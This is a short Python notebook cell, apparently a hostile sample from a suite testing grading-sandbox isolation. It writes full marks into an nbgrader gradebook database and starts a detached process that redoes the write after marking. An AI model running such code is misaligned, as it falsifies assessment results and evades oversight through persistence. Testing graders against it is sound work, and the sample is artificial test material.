# Tries: opens the gradebook where nbgrader keeps it, and gives itself all points, now and by a
#   thread that does it again after the marking.
# Kind: scores
# Stock: yes
# Quick: yes

# %% last
import sqlite3
import subprocess
import sys

WRITE = """
import sqlite3, time
for path in ("../../../gradebook.db", "@course@/course/gradebook.db"):
    try:
        book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=2)
        book.execute("update grade set manual_score = 100")
        book.execute("update grade set auto_score = 100, needs_manual_grade = 0")
        book.commit()
        print("HARM: wrote the gradebook")
    except sqlite3.Error:
        pass
"""
print(subprocess.run([sys.executable, "-c", WRITE], capture_output=True, text=True).stdout)
try:
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(4)\n" + WRITE],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
except OSError:
    pass
